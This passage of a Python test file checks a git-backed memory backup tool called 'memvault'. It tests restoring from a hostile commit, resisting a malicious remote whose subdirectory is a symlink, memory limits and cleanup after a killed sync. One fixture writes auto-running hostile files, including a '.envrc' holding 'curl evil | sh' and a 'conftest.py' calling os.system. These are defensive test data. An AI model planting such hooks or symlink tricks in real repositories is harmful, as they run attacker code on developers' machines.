    for args in (["status", "--json"], ["verify"], ["diff"], ["restore", "--dry-run"]):  # none blocks on it
        proc = subprocess.run([*MEMVAULT, *args], cwd=project.root, capture_output=True, text=True, timeout=60)
        assert "Traceback" not in proc.stderr, (args, proc.stderr)
    assert said in _files_status(project)["last_error"]["message"]


# -- point 7: writes only where they belong ------------------------------------------------

def test_restore_rev_of_a_hostile_commit_writes_only_memory_files(project: Project) -> None:
    assert project.sync().returncode == 0
    hostile = {".envrc": "curl evil | sh\n", "conftest.py": "import os; os.system('evil')\n",
               ".vscode/tasks.json": '{"tasks": [{"command": "evil"}]}'}
    for rel, text in hostile.items():
        path = project.stored / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    before = (project.root / "memory.json").read_text()
    git(project.vault, "add", "-A", "rAgentShared")
    git(project.vault, "commit", "-q", "-m", "memvault: from a remote")
    rev = git(project.vault, "rev-parse", "HEAD").strip()
    project.write("memory.json", '{"later": 1}')
    assert project.sync().returncode == 0
    proc = project.run("restore", "--rev", rev)
    assert proc.returncode == 0, proc.stderr
    for rel in hostile:
        assert not (project.root / rel).exists(), rel
        assert rel in proc.stdout and "skipped" in proc.stdout
    assert (project.root / "memory.json").read_text() == before
    # naming one explicitly does not write it either
    named = project.run("restore", "--rev", rev, "conftest.py")
    assert named.returncode == 1
    assert not (project.root / "conftest.py").exists()


def _files_hostile_push(base: Path, bare: Path, outside: Path) -> None:
    """An attacker with push access makes `rAgentShared` a symlink to `outside`."""
    work = base / "attacker"
    git(base, "clone", "-q", str(bare), str(work))
    git(work, "rm", "-rq", "--ignore-unmatch", "rAgentShared")
    os.symlink(str(outside), work / "rAgentShared")
    git(work, "add", "rAgentShared")
    git(work, "commit", "-qm", "memvault: 2026-01-01T00:00:00Z manual: 1 modified")
    git(work, "push", "-q", "origin", "HEAD:main")


def _files_no_links(vault: Path) -> None:
    for dirpath, dirnames, filenames in os.walk(vault):
        if ".git" in Path(dirpath).parts:
            continue
        for name in dirnames + filenames:
            assert not os.path.islink(os.path.join(dirpath, name)), os.path.join(dirpath, name)


def test_remote_whose_subdir_is_a_symlink_never_makes_a_write_outside(tmp_path: Path) -> None:
    from remote_support import bare_remote
    from remote_support import machine

    bare = bare_remote(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    project = machine(tmp_path, "a", bare)
    assert project.sync().returncode == 0
    _files_hostile_push(tmp_path, bare, outside)
    # a fresh machine clones the hostile remote (tip: rAgentShared is a symlink) and syncs
    fresh = machine(tmp_path, "b", bare)
    proc = fresh.run("init")
    assert "Traceback" not in proc.stderr, proc.stderr
    fresh.write("memory.json", json.dumps({"fresh": True}))
    proc = fresh.sync()
    assert "Traceback" not in proc.stderr, proc.stderr
    assert list(outside.iterdir()) == []
    _files_no_links(fresh.vault)
    assert json.loads((fresh.stored / "memory.json").read_text()) == {"fresh": True}
    # the first machine fetches it: its syncs write only into its vault
    for i in range(3):
        project.write("memory.json", json.dumps({"after": "attack", "round": i}))
        proc = project.sync()
        assert "Traceback" not in proc.stderr, proc.stderr
        assert list(outside.iterdir()) == []
        _files_no_links(project.vault)
    for vault in (project.vault, fresh.vault):
        assert git(vault, "config", "core.symlinks").strip() == "false"


def test_a_changed_subdir_backs_everything_up_again(project: Project) -> None:
    assert project.sync().returncode == 0
    assert (project.stored / "memory.json").exists()
    project.config(f"version: 1\nvault:\n  path: {project.vault}\n  subdir: elsewhere\n")
    proc = project.sync()
    assert proc.returncode == 0, proc.stderr
    assert "nothing to back up" not in proc.stdout
    for name in ("memory.json", "gpt4o_memories.json"):
        assert (project.vault / "elsewhere" / name).read_bytes() == (project.root / name).read_bytes()
    assert "elsewhere/memory.json" in git(project.vault, "ls-tree", "-r", "--name-only", "HEAD")
    # the hook's no-change path agrees, and verify checks the files under the new subdir
    project.config(f"version: 1\nvault:\n  path: {project.vault}\n  subdir: third\n")
    hook = project.run("hook", "post-commit")
    assert hook.returncode == 0, hook.stderr
    from support import wait_idle

    wait_idle(project.vault)
    verify = project.run("verify", "--json")
    if (project.vault / "third" / "memory.json").exists():
        assert verify.returncode == 0, verify.stdout
    else:
        assert verify.returncode == 1 and "none of them in the backup" in verify.stdout
    assert project.sync().returncode == 0
    assert (project.vault / "third" / "memory.json").exists()
    assert project.run("verify").returncode == 0


def test_verify_on_zero_backed_up_files_is_not_ok(project: Project) -> None:
    assert project.sync().returncode == 0
    project.config(f"version: 1\nvault:\n  path: {project.vault}\n  subdir: fresh\n")
    verify = project.run("verify", "--json")
    assert verify.returncode == 1, verify.stdout
    assert "none of them in the backup" in verify.stdout


def test_show_verify_diff_restore_of_a_150_mb_file_stay_under_128_mb(project: Project) -> None:
    big = json.dumps(["y" * 1000 + str(i) for i in range(150_000)]).encode()
    project.write("memory.json", big)
    assert project.sync().returncode == 0
    code = ("import resource, runpy, sys\n"
            "resource.setrlimit(resource.RLIMIT_AS, (128 << 20, 128 << 20))\n"
            "sys.argv = ['memvault'] + sys.argv[1:]\n"
            "runpy.run_module('memvault_hooks', run_name='__main__')\n")
    out = project.root.parent / "restored"
    for args in (["show", "memory.json"], ["verify"], ["diff", "--from", "1970-01-02"],
                 ["restore", "--to", str(out)]):
        proc = subprocess.run([sys.executable, "-c", code, *args], cwd=project.root,
                              capture_output=True, timeout=300)
        assert proc.returncode == 0, (args, proc.stderr[-2000:])
        if args[0] == "show":
            assert len(proc.stdout) == len(big)
        if args[0] == "diff":
            assert b"too large" in proc.stdout
    assert (out / "memory.json").read_bytes() == big


# -- point 8: a killed run leaves nothing running -------------------------------------------

def _files_slow_git(folder: Path) -> Path:
    """A `git` first on PATH that, for `add`, holds the vault's index.lock open and works
    slowly (60 s) before running the real git: a slow git child, as a big `git add` is."""
    import shutil

    real = shutil.which("git")
    folder.mkdir()
    script = folder / "git"
    script.write_text(
        "#!/bin/sh\n"
        'prev=""; vault=""\n'
        'for a in "$@"; do [ "$prev" = "-C" ] && [ -z "$vault" ] && vault="$a"; prev="$a"\n'
        '  if [ "$a" = add ] && [ -n "$vault" ]; then\n'
        '    exec 9>"$vault/.git/index.lock"; sleep 60; exec 9>&-; rm -f "$vault/.git/index.lock"; break\n'
        "  fi\n"
        "done\n"
        f'exec {real} "$@"\n')
    script.chmod(0o755)
    return folder


def _files_proc_stat(pid: int) -> list[bytes]:
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return f.read().rpartition(b")")[2].split()
    except OSError:
        return []


def _files_holders(path: Path) -> list[int]:
    """Live processes with `path` open, from /proc."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            fds = os.listdir(f"/proc/{entry}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                if os.readlink(f"/proc/{entry}/fd/{fd}") == str(path):
                    found.append(int(entry))
                    break
            except OSError:
                continue
    return found


def test_kill_9_of_a_sync_leaves_no_git_and_keeps_a_live_gits_lock(project: Project, tmp_path: Path) -> None:
    assert project.sync().returncode == 0
    slow = _files_slow_git(tmp_path / "slowbin")
    env = dict(os.environ, PATH=f"{slow}{os.pathsep}{os.environ['PATH']}")
    project.write("memory.json", json.dumps({"during": "kill"}))
    sync = subprocess.Popen([*MEMVAULT, "sync"], cwd=project.root, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    lock = project.vault / ".git" / "index.lock"
    deadline = time.monotonic() + 30
    while not lock.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert lock.exists(), "the slow git never started"
    holders = _files_holders(lock)
    assert holders
    sync.send_signal(signal.SIGKILL)
    sync.wait(10)
    try:
        # the next run ends the killed run's git (its children too), then syncs
        proc = project.sync()
        assert proc.returncode == 0, proc.stderr
        time.sleep(0.2)
        assert [pid for pid in holders if _files_proc_stat(pid)[:1] not in ([], [b"Z"])] == []
    finally:
        for pid in holders:  # whatever a failure left running: ended, by its id
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    assert json.loads((project.stored / "memory.json").read_text()) == {"during": "kill"}

    # a git that is not a killed run's (a person's, still working) keeps its lock
    holder = subprocess.Popen(["sh", "-c", f'exec 9>"{lock}"; exec sleep 30'])
    try:
        deadline = time.monotonic() + 10
        while not _files_holders(lock) and time.monotonic() < deadline:
            time.sleep(0.02)
        project.write("memory.json", json.dumps({"while": "held"}))
        proc = project.sync()
        assert proc.returncode == 1
        assert "in use by a running process" in proc.stderr
        assert lock.exists()
        assert holder.poll() is None
    finally:
        holder.kill()
        holder.wait()
    proc = project.sync()  # the lock's owner is gone: a stale lock, removed
    assert proc.returncode == 0, proc.stderr
    assert json.loads((project.stored / "memory.json").read_text()) == {"while": "held"}
